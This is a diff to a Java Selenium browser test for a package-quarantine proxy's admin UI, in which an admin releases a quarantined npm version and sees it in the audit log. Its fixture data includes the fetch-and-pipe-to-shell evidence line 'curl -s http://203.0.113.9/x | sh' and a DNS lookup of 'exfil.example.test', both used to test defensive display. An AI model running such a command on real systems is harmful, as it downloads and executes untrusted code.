@@ -1,9 +1,18 @@
 package dev.airlock.proxy.ui;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
-import dev.airlock.proxy.cli.FakeAdminApi;
+import dev.airlock.analysis.AnalysisResult;
+import dev.airlock.analysis.Finding;
+import dev.airlock.analysis.Recommendation;
+import dev.airlock.model.Ecosystem;
+import dev.airlock.model.PackageCoordinate;
+import dev.airlock.policy.VerdictState;
+import dev.airlock.proxy.cli.PolicyServer;
+import dev.airlock.sandbox.BehaviorReport;
+import java.util.List;
 import dev.airlock.testing.Requirements;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -20,8 +29,9 @@ import org.openqa.selenium.support.ui.ExpectedConditions;
 import org.openqa.selenium.support.ui.WebDriverWait;
 
 /**
- * The admin UI in a real headless Chromium: sign in, find a quarantined version, release it with
- * a reason, and see it allowed and in the audit log.
+ * The admin UI in a real headless Chromium against the real admin API and policy store: sign in,
+ * find a version the analysis quarantined, release it with a reason, and see it allowed and in
+ * the audit log.
  */
 class UiBrowserTest {
     private static final String TOKEN = "ui-test-token";
@@ -29,25 +39,28 @@ class UiBrowserTest {
     @Test
     void anAdminReleasesAQuarantinedVersionWithAReasonAndSeesItInTheAuditLog(@TempDir Path tmp) throws Exception {
         Requirements.require(HeadlessChromium.available(), "Chromium and chromedriver");
-        try (FakeAdminApi api = new FakeAdminApi(TOKEN, new UiRoute())) {
-            var held = api.put("npm", "left-padd", "1.3.0", "quarantined", "typosquat", "name imitates left-pad");
-            held.putArray("findings").addObject().put("rule", "install_script_network").put("severity", "high")
-                    .put("source", "static").put("message", "install script downloads code")
-                    .put("evidence", "curl -s http://203.0.113.9/x | sh").put("location", "package.json:7");
-            var phase = held.putObject("behavior").put("runtime", "runc").put("image", "airlock-sandbox:test")
-                    .putArray("phases").addObject().put("phase", "install").put("status", "completed").put("exitCode", 0)
-                    .put("durationMs", 2875);
-            phase.putArray("dns").addObject().put("hostname", "exfil.example.test");
-            phase.putArray("commands").addObject().putArray("argv").add("sh").add("-c").add("node install.js");
-            api.put("pypi", "reqeusts", "0.0.1", "blocked", "known_malware", "MAL-2026-0001");
+        try (PolicyServer airlock = new PolicyServer(tmp.resolve("data"), TOKEN, new UiRoute())) {
+            PackageCoordinate held = PackageCoordinate.of(Ecosystem.NPM, "tiny-helper", "1.3.0");
+            assertFalse(airlock.seeNewVersion(held).serve(), "a version published an hour ago is held");
+            assertTrue(airlock.submitted(held));
+            BehaviorReport.Phase install = new BehaviorReport.Phase("install", "completed", 0, 2875, null,
+                    List.of(new BehaviorReport.Command(List.of("sh", "-c", "node install.js"))), null,
+                    List.of(new BehaviorReport.DnsQuery("exfil.example.test")), null, 0);
+            airlock.analysisFinished(held, new AnalysisResult("npm", "tiny-helper", "1.3.0", "ab".repeat(32),
+                    Recommendation.SUSPICIOUS, List.of(new Finding("install_script_network", "high", "static",
+                            "install script downloads code", "curl -s http://203.0.113.9/x | sh", "package.json:7")),
+                    new BehaviorReport("runc", "airlock-sandbox:test", List.of(install)), 40, 2900));
+            assertEquals(VerdictState.QUARANTINED, airlock.engine.admin().version(held).state());
+            airlock.seeNewVersion(PackageCoordinate.of(Ecosystem.PYPI, "other-project", "0.1.0"));
+
             ChromeDriver browser = HeadlessChromium.start(tmp.resolve("profile"));
             try {
-                run(browser, api.url() + "ui/");
+                run(browser, airlock.url() + "ui/");
             } finally {
                 screenshot(browser, "audit-log-after-release.png");
                 browser.quit();
             }
-            assertEquals("override_allow", api.audit.get(0).get("action").asText());
+            assertEquals(VerdictState.ALLOWED, airlock.engine.admin().version(held).state());
         }
     }
 
@@ -62,18 +75,19 @@ class UiBrowserTest {
         token.clear();
         token.sendKeys(TOKEN, Keys.ENTER);
 
-        By fixture = By.cssSelector("a.version-link[data-key='npm:left-padd@1.3.0']");
+        By fixture = By.cssSelector("a.version-link[data-key='npm:tiny-helper@1.3.0']");
         wait.until(ExpectedConditions.elementToBeClickable(fixture));
         WebElement search = browser.findElement(By.id("f-search"));
-        search.sendKeys("left");
-        assertTrue(browser.findElements(By.cssSelector("a.version-link[data-key='pypi:reqeusts@0.0.1']")).isEmpty(),
+        search.sendKeys("tiny");
+        assertTrue(browser.findElements(By.cssSelector("a.version-link[data-key='pypi:other-project@0.1.0']")).isEmpty(),
                 "search filters the queue");
         browser.findElement(fixture).click();
 
-        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("view-title"), "left-padd 1.3.0"));
-        assertTrue(browser.findElement(By.cssSelector(".state-quarantined")).isDisplayed());
+        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("view-title"), "tiny-helper 1.3.0"));
+        wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("main .state-quarantined")));
+        wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("action-allow")));
         String page = browser.findElement(By.tagName("main")).getText();
-        assertTrue(page.contains("typosquat"), page);
+        assertTrue(page.contains("install script downloads code"), "the analysis reason: " + page);
         assertTrue(page.contains("install_script_network") && page.contains("package.json:7")
                 && page.contains("curl -s http://203.0.113.9/x | sh"), "findings with evidence: " + page);
         assertTrue(page.contains("Phase: install") && page.contains("exfil.example.test") && page.contains("sh -c node install.js")
@@ -90,18 +104,18 @@ class UiBrowserTest {
         assertEquals("action-allow", browser.switchTo().activeElement().getAttribute("id"));
         browser.switchTo().activeElement().sendKeys(Keys.ENTER);
         WebElement confirm = wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("confirm-ok")));
-        assertTrue(browser.findElement(By.id("confirm-title")).getText().contains("Allow left-padd 1.3.0"));
+        assertTrue(browser.findElement(By.id("confirm-title")).getText().contains("Allow tiny-helper 1.3.0"));
         assertEquals(confirm, browser.switchTo().activeElement(), "the dialog focuses its confirm button");
         confirm.sendKeys(Keys.ENTER);
 
-        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("action-status"), "Done: allow left-padd 1.3.0"));
+        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("action-status"), "Done: allow tiny-helper 1.3.0"));
         wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("main .state-allowed")));
         screenshot(browser, "version-page-after-release.png");
 
         browser.findElement(By.cssSelector("#nav a[data-view='audit']")).click();
         wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("audit-table"), "override_allow"));
         String audit = browser.findElement(By.id("audit-table")).getText();
-        assertTrue(audit.contains("npm:left-padd@1.3.0") && audit.contains("reviewed: a fork with a fixed CVE"), audit);
+        assertTrue(audit.contains("npm:tiny-helper@1.3.0") && audit.contains("reviewed: a fork with a fixed CVE"), audit);
         assertTrue(audit.contains("quarantined -> allowed"), audit);
     }
 
